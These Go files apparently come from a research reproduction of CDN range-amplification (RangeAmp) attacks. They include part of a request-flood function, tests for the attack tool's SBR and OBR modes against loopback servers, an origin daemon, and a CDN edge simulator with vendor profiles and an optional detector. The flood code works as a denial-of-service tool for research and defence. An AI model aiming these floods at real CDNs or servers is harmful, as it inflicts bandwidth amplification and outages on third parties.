			defer wg.Done()
			seg := netsim.NewSegment(fmt.Sprintf("client-edge-%d", w))
			client := origin.NewClient(transport.Dialer{}, edgeAddr, seg)
			defer client.Close()
			r := &results[w]
			for i := 0; i < share; i++ {
				target := fmt.Sprintf("%s?cb=atk-c%d-%d", path, w, i)
				for rep := 0; rep < exploit.Repeat; rep++ {
					req := attackRequest(target, host, exploit.RangeHeader)
					_, err := client.Do(req)
					r.requests++
					if err != nil {
						r.failures++
						if r.firstErr == nil {
							r.firstErr = err
						}
					}
				}
			}
			r.dials = client.Stats().Dials
			tr := seg.Traffic()
			r.up, r.down = tr.Up, tr.Down
		}(w, share)
	}
	wg.Wait()
	var total worker
	for _, r := range results {
		total.up += r.up
		total.down += r.down
		total.requests += r.requests
		total.failures += r.failures
		total.dials += r.dials
		if total.firstErr == nil {
			total.firstErr = r.firstErr
		}
	}
	fmt.Fprintf(out, "flood: %d requests over %d connection(s) in %v: %d bytes out, %d bytes in\n",
		total.requests, total.dials, time.Since(start).Round(time.Millisecond), total.up, total.down)
	if total.failures > 0 {
		return fmt.Errorf("flood: %d of %d requests failed, first: %w", total.failures, total.requests, total.firstErr)
	}
	fmt.Fprintf(out, "origin-side amplification is visible in origind/cdnsim logs\n")
	return nil
}

// send performs one raw HTTP/1.1 request and returns bytes out/in and
// the response status.
func send(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, 0, 0, err
	}
	defer conn.Close()

	req.Headers.Set("Connection", "close")
	upN, err := req.WriteTo(conn)
	if err != nil {
		return upN, 0, 0, err
	}
	resp, err := httpwire.ReadResponse(bufio.NewReader(conn), httpwire.Limits{})
	if err != nil {
		return upN, 0, 0, err
	}
	return upN, int64(resp.WireSize()), resp.StatusCode, nil
}
