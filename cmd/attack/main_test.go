package main

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/transport"
	"repro/internal/vtime"
)

func TestRunUnknownMode(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-mode", "nonsense"}, &b); err == nil {
		t.Fatal("unknown mode accepted")
	}
}

func TestRunUnknownProto(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-proto", "h3"}, &b); err == nil {
		t.Fatal("unknown proto accepted")
	}
}

func TestRunUnknownVendors(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-mode", "obr", "-fcdn", "nonsense"}, &b); err == nil {
		t.Fatal("unknown fcdn accepted")
	}
	if err := run([]string{"-mode", "obr", "-bcdn", "nonsense"}, &b); err == nil {
		t.Fatal("unknown bcdn accepted")
	}
}

func TestRunBadMetricsAddr(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-metrics-addr", "256.256.256.256:bad"}, &b); err == nil {
		t.Fatal("bad -metrics-addr accepted")
	}
}

// startOrigin serves a real-TCP origin with one synthetic resource and
// returns its address. Any HTTP/1.1 server works as the attack target;
// the origin is the smallest one in the repo.
func startOrigin(t *testing.T) string {
	addr, _ := startCountingOrigin(t)
	return addr
}

// countingListener counts accepted TCP connections.
type countingListener struct {
	net.Listener
	conns atomic.Int64
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.conns.Add(1)
	}
	return c, err
}

// startCountingOrigin is startOrigin exposing the accepted-conn counter
// so keep-alive tests can assert the client's connection economy.
func startCountingOrigin(t *testing.T) (string, *countingListener) {
	t.Helper()
	store := resource.NewStore()
	store.AddSynthetic("/blob.bin", 64<<10, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cl := &countingListener{Listener: l}
	t.Cleanup(func() { cl.Close() })
	go transport.Serve(cl, srv) //nolint:errcheck // dies with the listener
	return l.Addr().String(), cl
}

// TestSBRAgainstLiveOrigin drives the full client path — request
// crafting, the counting send loop, client span recording, and the
// Chrome trace export — against a live TCP server.
func TestSBRAgainstLiveOrigin(t *testing.T) {
	defer trace.Default.Configure(trace.Config{})
	addr := startOrigin(t)
	traceFile := filepath.Join(t.TempDir(), "attack.json")
	var b strings.Builder
	err := run([]string{
		"-mode", "sbr", "-edge", addr, "-path", "/blob.bin",
		"-vendor", "cloudflare", "-count", "2", "-trace-out", traceFile,
	}, &b)
	if err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "Range: bytes=0-0") || !strings.Contains(out, "first response: HTTP 206") {
		t.Errorf("unexpected output:\n%s", out)
	}

	data, err := os.ReadFile(traceFile)
	if err != nil {
		t.Fatal(err)
	}
	var chrome struct {
		TraceEvents []struct {
			Name string         `json:"name"`
			Ph   string         `json:"ph"`
			Args map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &chrome); err != nil {
		t.Fatalf("trace-out not Chrome JSON: %v", err)
	}
	// The origin runs in-process and shares trace.Default, so it joins
	// the propagated trace: each request contributes a client span (with
	// byte attrs) plus the origin's server span.
	var spans, client int
	for _, ev := range chrome.TraceEvents {
		if ev.Ph != "X" {
			continue
		}
		spans++
		if ev.Args["status"] != float64(206) {
			t.Errorf("span %s status = %v", ev.Name, ev.Args["status"])
		}
		if bd, ok := ev.Args["bytes_down"].(float64); ok {
			client++
			if bd <= 0 {
				t.Errorf("span %s bytes_down = %v", ev.Name, bd)
			}
		}
	}
	if spans != 4 || client != 2 {
		t.Errorf("spans = %d (client %d), want 4 (2): attacker + joined origin per -count", spans, client)
	}
}

func TestKeepAliveReusesOneConnection(t *testing.T) {
	addr, cl := startCountingOrigin(t)
	var b strings.Builder
	err := run([]string{
		"-mode", "sbr", "-edge", addr, "-path", "/blob.bin",
		"-vendor", "cloudflare", "-count", "3", "-keepalive",
	}, &b)
	if err != nil {
		t.Fatal(err)
	}
	if out := b.String(); !strings.Contains(out, "sent 3 requests") {
		t.Errorf("unexpected output:\n%s", out)
	}
	if n := cl.conns.Load(); n != 1 {
		t.Errorf("server accepted %d connections, want 1 under -keepalive", n)
	}
}

func TestPerRequestDialsPerProbe(t *testing.T) {
	addr, cl := startCountingOrigin(t)
	var b strings.Builder
	if err := run([]string{
		"-mode", "sbr", "-edge", addr, "-path", "/blob.bin",
		"-vendor", "cloudflare", "-count", "3",
	}, &b); err != nil {
		t.Fatal(err)
	}
	if n := cl.conns.Load(); n != 3 {
		t.Errorf("server accepted %d connections, want 3 without -keepalive", n)
	}
}

func TestConnsFloodSplitsSessions(t *testing.T) {
	addr, cl := startCountingOrigin(t)
	var b strings.Builder
	err := run([]string{
		"-mode", "sbr", "-edge", addr, "-path", "/blob.bin",
		"-vendor", "cloudflare", "-count", "6", "-conns", "2",
	}, &b)
	if err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.Contains(out, "flood: 6 requests over 2 connection(s)") {
		t.Errorf("unexpected output:\n%s", out)
	}
	if n := cl.conns.Load(); n != 2 {
		t.Errorf("server accepted %d connections, want 2 under -conns 2", n)
	}
}

func TestConnsAndKeepAliveFlagValidation(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-mode", "obr", "-conns", "2"}, &b); err == nil {
		t.Error("-conns with -mode obr accepted")
	}
	if err := run([]string{"-proto", "h2", "-conns", "2"}, &b); err == nil {
		t.Error("-conns with -proto h2 accepted")
	}
	if err := run([]string{"-proto", "h2", "-keepalive"}, &b); err == nil {
		t.Error("-keepalive with -proto h2 accepted")
	}
}

// TestOBRTracedRequestCarriesTraceparent pins the propagation contract
// at the wire level: with tracing on, the request the client emits
// carries a parseable traceparent header.
func TestOBRTracedRequestCarriesTraceparent(t *testing.T) {
	defer trace.Default.Configure(trace.Config{})
	trace.Default.Configure(trace.Config{SampleEvery: 1})
	addr := startOrigin(t)
	var b strings.Builder
	err := run([]string{
		"-mode", "obr", "-edge", addr, "-path", "/blob.bin",
		"-fcdn", "cloudflare", "-bcdn", "akamai", "-n", "3", "-trace-sample", "1",
	}, &b)
	if err != nil {
		t.Fatal(err)
	}
	traces := trace.Default.Traces()
	if len(traces) != 1 {
		t.Fatalf("completed traces = %d, want 1", len(traces))
	}
	sp := traces[0].Root()
	if sp == nil || sp.Node != "attacker" || !sp.Context().Valid() {
		t.Fatalf("root span = %+v", sp)
	}
	if got := sp.Attr("range"); got != "bytes=0-,0-,0-" {
		t.Errorf("range attr = %q", got)
	}
}

// TestRunSim drives the in-process -sim mode through both engines and
// checks the byte accounting agrees between them.
func TestRunSim(t *testing.T) {
	ampLine := func(args ...string) string {
		t.Helper()
		var b strings.Builder
		if err := run(args, &b); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		i := strings.Index(out, "victim bytes")
		if i < 0 {
			t.Fatalf("no amplification line in output:\n%s", out)
		}
		return strings.TrimSpace(out[i:])
	}
	base := []string{"-sim", "-workers", "4", "-per-worker", "2", "-keepalive", "-size", "1048576"}
	pipe := ampLine(base...)
	vt := ampLine(append(base, "-engine", "vtime")...)
	if pipe != vt {
		t.Errorf("engines diverged:\n pipe  %s\n vtime %s", pipe, vt)
	}
	cl := ampLine(append(base, "-engine", "vtime", "-edges", "3")...)
	if !strings.Contains(cl, "factor") {
		t.Errorf("cluster run output %q", cl)
	}
}

// TestScheduleVirtualSampling pins the vtime live-telemetry contract:
// frames land at exact one-interval virtual instants (Epoch-based
// timestamps, IntervalMS exactly 1000), sampling stops when the event
// queue drains, and each tick flushes batched accounting first so the
// window rates see the traffic applied up to its instant.
func TestScheduleVirtualSampling(t *testing.T) {
	reg := metrics.New()
	sched := vtime.NewScheduler()
	seg := netsim.NewSegmentIn(reg, obs.DefaultVictimSegment)
	live := obs.New(obs.Config{Registry: reg, Now: sched.Now})
	scheduleVirtualSampling(sched, live, time.Second)

	// Traffic mid-window via a segment batch: only a flushing tick can
	// see it.
	batch := vtime.NewSegmentBatch(sched, seg)
	for i := 0; i < 3; i++ {
		at := time.Duration(i)*time.Second + 500*time.Millisecond
		sched.After(at, func() { batch.Apply(vtime.Delta{Down: 1 << 20}) })
	}
	if err := sched.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	frames := live.Frames()
	if len(frames) != 3 {
		t.Fatalf("frames = %d, want one per virtual second", len(frames))
	}
	for i, f := range frames {
		want := vtime.Epoch.Add(time.Duration(i+1) * time.Second)
		if !f.Time.Equal(want) {
			t.Errorf("frame %d at %v, want virtual instant %v", i, f.Time, want)
		}
		if f.IntervalMS != 1000 {
			t.Errorf("frame %d interval = %dms, want exactly 1000", i, f.IntervalMS)
		}
		if f.Amp.VictimBps != 1<<20 {
			t.Errorf("frame %d victim rate = %d, want the flushed window bytes", i, f.Amp.VictimBps)
		}
	}
}

// TestRunSimVTimeMetrics runs the wired-up path end to end: -sim
// -engine vtime with a metrics listener must complete and report.
func TestRunSimVTimeMetrics(t *testing.T) {
	var b strings.Builder
	err := run([]string{
		"-sim", "-engine", "vtime", "-workers", "16", "-keepalive",
		"-size", "1048576", "-metrics-addr", "127.0.0.1:0",
	}, &b)
	if err != nil {
		t.Fatal(err)
	}
	if out := b.String(); !strings.Contains(out, "amplification factor") {
		t.Errorf("unexpected output:\n%s", out)
	}
}

func TestRunSimRejectsBadFlags(t *testing.T) {
	var b strings.Builder
	if err := run([]string{"-sim", "-engine", "steam"}, &b); err == nil {
		t.Fatal("unknown engine accepted")
	}
	if err := run([]string{"-engine", "vtime"}, &b); err == nil {
		t.Fatal("-engine without -sim accepted")
	}
	if err := run([]string{"-sim", "-vendor", "nonsense"}, &b); err == nil {
		t.Fatal("unknown vendor accepted")
	}
}
