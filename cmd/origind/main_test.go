package main

import "testing"

func TestRunBadSizePair(t *testing.T) {
	if err := run([]string{"-sizes", "nonsense"}); err == nil {
		t.Fatal("bad -sizes accepted")
	}
}

func TestRunBadSizeValue(t *testing.T) {
	if err := run([]string{"-sizes", "a=-5"}); err == nil {
		t.Fatal("negative size accepted")
	}
}

func TestRunBadMetricsAddr(t *testing.T) {
	if err := run([]string{"-metrics-addr", "256.256.256.256:bad"}); err == nil {
		t.Fatal("bad -metrics-addr accepted")
	}
}

func TestRunBadDirectory(t *testing.T) {
	if err := run([]string{"-dir", "/nonexistent/path/for/test"}); err == nil {
		t.Fatal("missing -dir accepted")
	}
}
