// Command origind runs the experiment origin server over real TCP —
// the role the paper's Apache box plays. It serves synthetic resources
// of the requested sizes and logs every received request's Range
// header, so a cdnsim/attack pair can demonstrate the traffic asymmetry
// across the loopback.
//
// Usage:
//
//	origind -addr :8080 -sizes 1KB=1024,10MB=10485760 [-no-ranges]
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"

	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/trace"
	"repro/internal/transport"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "origind:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("origind", flag.ContinueOnError)
	addr := fs.String("addr", ":8080", "listen address")
	sizes := fs.String("sizes", "1KB=1024,10MB=10485760", "resources as name=bytes pairs; served at /<name>.bin")
	dir := fs.String("dir", "", "also serve every file in this directory at /<name>")
	h2Also := fs.Bool("h2", false, "serve HTTP/2 (prior-knowledge cleartext) on addr+1 as well")
	noRanges := fs.Bool("no-ranges", false, "disable range support (the OBR origin configuration)")
	maxRanges := fs.Int("max-ranges", 0, "cap ranges served per request (0 = unlimited)")
	metricsAddr := fs.String("metrics-addr", "", "serve Prometheus /metrics, /debug/pprof and /debug/traces on this address (empty = off)")
	traceSample := fs.Int("trace-sample", 1, "record every Nth request as a span tree, served at /debug/traces (0 = tracing off)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *traceSample > 0 {
		trace.Default.Configure(trace.Config{SampleEvery: *traceSample})
	}
	// The origin's one accounted hop faces the CDN: accept-side traffic
	// counts into "cdn-origin", the victim segment of the SBR attack, so
	// /debug/live (and rangeamp top) can watch the flood land here.
	cdnSeg := netsim.NewSegment("cdn-origin")
	engine := obs.New(obs.Config{})
	engine.Start()
	defer engine.Stop()

	if *metricsAddr != "" {
		ml, err := net.Listen("tcp", *metricsAddr)
		if err != nil {
			return err
		}
		mux := metrics.NewDebugMux(metrics.Default)
		mux.Handle("/debug/traces", trace.Default.Handler())
		mux.Handle("/debug/live", engine.Handler())
		log.Printf("metrics on http://%s/metrics, traces on /debug/traces, live telemetry on /debug/live", ml.Addr())
		go http.Serve(ml, mux) //nolint:errcheck // dies with the process
	}

	store := resource.NewStore()
	for _, pair := range strings.Split(*sizes, ",") {
		name, sizeStr, found := strings.Cut(strings.TrimSpace(pair), "=")
		if !found {
			return fmt.Errorf("bad size pair %q (want name=bytes)", pair)
		}
		size, err := strconv.ParseInt(sizeStr, 10, 64)
		if err != nil || size < 0 {
			return fmt.Errorf("bad size %q", sizeStr)
		}
		path := "/" + name + ".bin"
		store.AddSynthetic(path, size, "application/octet-stream")
		log.Printf("serving %s (%d bytes)", path, size)
	}

	if *dir != "" {
		paths, err := store.AddDirectory(*dir, "application/octet-stream")
		if err != nil {
			return err
		}
		log.Printf("serving %d files from %s", len(paths), *dir)
	}

	srv := origin.NewServer(store, origin.Config{
		RangeSupport:        !*noRanges,
		MaxRangesPerRequest: *maxRanges,
	})
	l, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	if *h2Also {
		h2Addr, err := transport.NextPort(*addr)
		if err != nil {
			return err
		}
		l2, err := net.Listen("tcp", h2Addr)
		if err != nil {
			return err
		}
		log.Printf("h2c (prior knowledge) listening on %s", l2.Addr())
		go transport.ServeH2(l2, srv)
	}
	log.Printf("origin listening on %s (range support: %v)", l.Addr(), !*noRanges)
	return transport.ServeOn(l, srv, cdnSeg)
}
