package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

func TestRunUnknownVendor(t *testing.T) {
	if err := run([]string{"-vendor", "nonsense"}); err == nil {
		t.Fatal("unknown vendor accepted")
	}
}

func TestRunBadMetricsAddr(t *testing.T) {
	if err := run([]string{"-metrics-addr", "256.256.256.256:bad"}); err == nil {
		t.Fatal("bad -metrics-addr accepted")
	}
}

// freePort grabs an ephemeral port and releases it for the daemon to
// claim (the usual small race is acceptable in a test).
func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	return addr
}

// TestMetricsEndpointServesPrometheusText is the acceptance check: a
// running cdnsim answers /metrics with Prometheus text exposition.
func TestMetricsEndpointServesPrometheusText(t *testing.T) {
	edgeAddr, metricsAddr := freePort(t), freePort(t)
	// Serve blocks for the life of the test binary; the goroutine dies
	// with the process. Startup errors surface through the channel.
	errCh := make(chan error, 1)
	go func() {
		errCh <- run([]string{"-addr", edgeAddr, "-metrics-addr", metricsAddr, "-stats", "0"})
	}()

	var (
		resp *http.Response
		err  error
	)
	for i := 0; i < 100; i++ {
		select {
		case err := <-errCh:
			t.Fatalf("cdnsim exited: %v", err)
		default:
		}
		resp, err = http.Get(fmt.Sprintf("http://%s/metrics", metricsAddr))
		if err == nil {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err != nil {
		t.Fatalf("metrics endpoint never came up: %v", err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain; version=0.0.4") {
		t.Errorf("content type = %q", ct)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	out := string(body)
	// The edge registered its series at construction, so the scrape
	// carries them even before any request was served.
	for _, want := range []string{"# TYPE cdn_requests_total counter", "# HELP"} {
		if !strings.Contains(out, want) {
			t.Errorf("scrape missing %q:\n%s", want, out)
		}
	}

	// Drive one request through the edge (its upstream is unreachable,
	// so the edge answers 502 — the span tree still completes), then
	// check /debug/traces serves valid Chrome trace-event JSON.
	if resp, err := http.Get(fmt.Sprintf("http://%s/x.bin", edgeAddr)); err == nil {
		resp.Body.Close()
	}
	tresp, err := http.Get(fmt.Sprintf("http://%s/debug/traces", metricsAddr))
	if err != nil {
		t.Fatal(err)
	}
	defer tresp.Body.Close()
	if ct := tresp.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("trace content type = %q", ct)
	}
	tbody, err := io.ReadAll(tresp.Body)
	if err != nil {
		t.Fatal(err)
	}
	var chrome struct {
		TraceEvents []struct {
			Name string `json:"name"`
			Ph   string `json:"ph"`
		} `json:"traceEvents"`
		DisplayTimeUnit string `json:"displayTimeUnit"`
	}
	if err := json.Unmarshal(tbody, &chrome); err != nil {
		t.Fatalf("/debug/traces is not valid Chrome trace JSON: %v\n%s", err, tbody)
	}
	if chrome.DisplayTimeUnit != "ms" || len(chrome.TraceEvents) == 0 {
		t.Errorf("trace export empty or malformed: %+v", chrome)
	}

	// The text view renders the same ring as waterfalls.
	wresp, err := http.Get(fmt.Sprintf("http://%s/debug/traces?format=text", metricsAddr))
	if err != nil {
		t.Fatal(err)
	}
	defer wresp.Body.Close()
	wbody, _ := io.ReadAll(wresp.Body)
	if !strings.Contains(string(wbody), "trace ") {
		t.Errorf("waterfall view missing traces:\n%s", wbody)
	}
}
