// Command cdnsim runs one vendor-profiled CDN edge node over real TCP
// in front of an origin (origind, another cdnsim instance for a
// cascade, or any HTTP/1.1 server). It periodically logs the
// back-to-origin traffic counters so the SBR asymmetry is visible live.
//
// Usage:
//
//	cdnsim -vendor cloudflare -addr :8081 -origin 127.0.0.1:8080
//	cdnsim -vendor akamai     -addr :8082 -origin 127.0.0.1:8080   # BCDN
//	cdnsim -vendor cloudflare -addr :8083 -origin 127.0.0.1:8082 -bypass  # FCDN
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
	"time"

	"repro/internal/cdn"
	"repro/internal/detect"
	"repro/internal/measure"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/obs"
	"repro/internal/trace"
	"repro/internal/transport"
	"repro/internal/vendor"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "cdnsim:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("cdnsim", flag.ContinueOnError)
	vendorName := fs.String("vendor", "cloudflare", "vendor profile: "+strings.Join(vendor.Names(), "|"))
	addr := fs.String("addr", ":8081", "listen address")
	originAddr := fs.String("origin", "127.0.0.1:8080", "upstream (origin or BCDN) address")
	bypass := fs.Bool("bypass", false, "Cloudflare Bypass cache rule (OBR FCDN position)")
	disarm := fs.Bool("safe-range-option", false, "put the vendor Range option in its safe position")
	noCache := fs.Bool("disable-cache", false, "never cache (malicious-customer configuration)")
	poolSize := fs.Int("upstream-pool", 0, "keep this many persistent upstream connections (0 = a dial per miss, the paper's measured configuration)")
	poolIdle := fs.Duration("upstream-pool-idle", 30*time.Second, "evict pooled upstream connections idle longer than this")
	collapse := fs.Bool("collapse", false, "collapse concurrent cache misses for one key into a single upstream fetch")
	statsEvery := fs.Duration("stats", 5*time.Second, "traffic counter log interval (0 = off)")
	withDetector := fs.Bool("detect", false, "screen requests with the RangeAmp detector (§VI-C)")
	h2Also := fs.Bool("h2", false, "serve HTTP/2 (prior-knowledge cleartext) on addr+1 as well")
	metricsAddr := fs.String("metrics-addr", "", "serve Prometheus /metrics, /debug/pprof and /debug/traces on this address (empty = off)")
	traceSample := fs.Int("trace-sample", 1, "record every Nth request as a span tree, served at /debug/traces (0 = tracing off)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *traceSample > 0 {
		trace.Default.Configure(trace.Config{SampleEvery: *traceSample})
	}

	// The live telemetry engine samples the default registry (the one
	// every segment, edge and detector below reports into) once a
	// second; /debug/live and the stats log both read from it.
	engine := obs.New(obs.Config{})
	engine.Start()
	defer engine.Stop()

	if *metricsAddr != "" {
		ml, err := net.Listen("tcp", *metricsAddr)
		if err != nil {
			return err
		}
		mux := metrics.NewDebugMux(metrics.Default)
		mux.Handle("/debug/traces", trace.Default.Handler())
		mux.Handle("/debug/live", engine.Handler())
		log.Printf("metrics on http://%s/metrics, traces on /debug/traces, live telemetry on /debug/live", ml.Addr())
		go http.Serve(ml, mux) //nolint:errcheck // dies with the process
	}

	profile, ok := vendor.ByName(*vendorName)
	if !ok {
		return fmt.Errorf("unknown vendor %q (have %s)", *vendorName, strings.Join(vendor.Names(), ", "))
	}
	profile.Options.CloudflareBypass = *bypass
	if *disarm {
		profile.Options.RangeOptionVulnerable = false
	}

	var inspector cdn.Inspector
	if *withDetector {
		detector := detect.New(detect.Config{})
		log.Printf("detector enabled: %s", detector.DescribeConfig())
		inspector = detector
	}
	var pool *cdn.PoolConfig
	if *poolSize > 0 {
		pool = &cdn.PoolConfig{Size: *poolSize, IdleTimeout: *poolIdle}
		log.Printf("upstream pool enabled: %d conns, %v idle timeout", *poolSize, *poolIdle)
	}
	// Two accounted hops: the back-to-origin segment (counted by the
	// upstream dialer) and the client-facing segment (counted on the
	// accept side by ServeOn). Their down-rate ratio is the in-flight
	// amplification factor /debug/live reports.
	upstreamSeg := netsim.NewSegment("cdn-origin")
	clientSeg := netsim.NewSegment("client-cdn")
	edge, err := cdn.NewEdge(cdn.Config{
		Profile:      profile,
		Dialer:       transport.Dialer{},
		UpstreamAddr: *originAddr,
		UpstreamSeg:  upstreamSeg,
		DisableCache: *noCache,
		Inspector:    inspector,
		UpstreamPool: pool,
		Collapse:     *collapse,
	})
	if err != nil {
		return err
	}
	defer edge.Close()
	if pool != nil && *poolIdle > 0 {
		// The pool reaps lazily on use; this ticker also drains it while
		// the edge sits idle, so stale sockets don't linger.
		go func() {
			ticker := time.NewTicker(*poolIdle)
			defer ticker.Stop()
			for range ticker.C {
				edge.ReapIdleUpstream()
			}
		}()
	}

	l, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	if *h2Also {
		h2Addr, err := transport.NextPort(*addr)
		if err != nil {
			return err
		}
		l2, err := net.Listen("tcp", h2Addr)
		if err != nil {
			return err
		}
		log.Printf("h2c edge listening on %s", l2.Addr())
		go transport.ServeH2(l2, edge)
	}
	log.Printf("%s edge listening on %s, upstream %s", profile.DisplayName, l.Addr(), *originAddr)

	if *statsEvery > 0 {
		// The stats log is an obs subscriber like any other: it reads the
		// engine's derived windows instead of polling counters itself, and
		// its goroutine ends when the deferred engine.Stop closes the
		// channel — shutdown needs no extra signal.
		frames, cancel := engine.Subscribe(4)
		defer cancel()
		go func() {
			var last time.Time
			for f := range frames {
				if !last.IsZero() && f.Time.Sub(last) < *statsEvery {
					continue
				}
				last = f.Time
				t := upstreamSeg.Traffic()
				log.Printf("back-to-origin: %s/s up, %s/s down (total %dB up, %dB down, %d live conns); amp factor %.1f",
					measure.FormatBytes(upRate(f, "cdn-origin")), measure.FormatBytes(f.Amp.VictimBps),
					t.Up, t.Down, liveConns(f, "cdn-origin"), f.Amp.Factor)
			}
		}()
	}
	return transport.ServeOn(l, edge, clientSeg)
}

// upRate reads one segment's request-direction byte rate off a frame.
func upRate(f obs.Frame, segment string) int64 {
	for _, s := range f.Segments {
		if s.Segment == segment {
			return s.UpBps
		}
	}
	return 0
}

// liveConns reads one segment's open-connection gauge off a frame.
func liveConns(f obs.Frame, segment string) int64 {
	for _, s := range f.Segments {
		if s.Segment == segment {
			return s.Live
		}
	}
	return 0
}
